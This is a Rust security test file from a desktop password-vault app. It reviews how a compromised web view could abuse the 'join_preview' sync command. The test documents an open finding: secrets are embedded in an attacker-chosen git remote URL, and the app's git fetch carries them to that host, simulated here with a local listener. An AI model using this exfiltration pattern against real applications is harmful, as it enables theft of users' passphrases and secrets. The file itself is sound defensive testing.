//! Attack review of the desktop sync commands (issue 9, slice 4): what a
//! compromised web view can do through them that it could not before.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::Duration;

use coffer_desktop::commands as c;
use coffer_desktop::dto::*;
use coffer_desktop::Session;

mod common;
use common::{secret, PW};

/// ATTACK (a compromised web view: a front-end dependency gone bad, an
/// injected script): the CSP lets the page talk to nothing but the IPC
/// (`connect-src ipc: http://ipc.localhost`), so what it reads (a revealed
/// value, the passphrase typed into it) has nowhere to go. Through
/// `join_preview` (identity unlocked, no vault open, no user action) it
/// names a "git remote" of its choosing, with the data in the URL, and the
/// app's `git fetch` carries it to that host.
/// SECURE: the app contacts no host the user did not confirm in Rust-side
/// UI (a native dialog showing the remote), whatever the web view sends.
/// FOUND: git connects to the web view's URL at once; the request line
/// carries the data.
#[test]
#[ignore = "open finding (issue 9): the app needs a native confirmation of a network git remote, outside the web view"]
fn attack_join_preview_reaches_any_host_the_web_view_names() {
    let dir = tempfile::tempdir().expect("tmp");
    let s = Session::new(dir.path().join("home"), dir.path().join("v.coffer"));
    std::env::set_var("COFFER_TEST_KDF_FLOOR", "1");
    c::create_identity(
        &s,
        CreateIdentityArgs {
            name: "Bob".into(),
            email: None,
            password: secret(PW),
            enable_keychain: false,
        },
    )
    .expect("identity");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let seen = std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while std::time::Instant::now() < deadline {
            match listener.accept() {
                Ok((mut conn, _)) => {
                    let _ = conn.set_nonblocking(false);
                    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                    let mut buf = [0u8; 2048];
                    let n = conn.read(&mut buf).unwrap_or(0);
                    let _ = conn.write_all(
                        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                    );
                    return Some(String::from_utf8_lossy(&buf[..n]).into_owned());
                }
                Err(_) => std::thread::sleep(Duration::from_millis(50)),
            }
        }
        None
    });
    let stolen = "revealed-value-or-passphrase";
    let r = c::join_preview(
        &s,
        RemoteArgs {
            kind: RemoteKind::Git,
            location: format!("http://127.0.0.1:{port}/{stolen}.git"),
        },
    );
    let got = seen.join().expect("listener");
    assert!(
        got.is_none(),
        "join_preview (refused with: {:?}) made git carry the web view's data to its host: {:?}",
        r.err().map(|e| e.message),
        got.as_deref().and_then(|g| g.lines().next())
    );
}
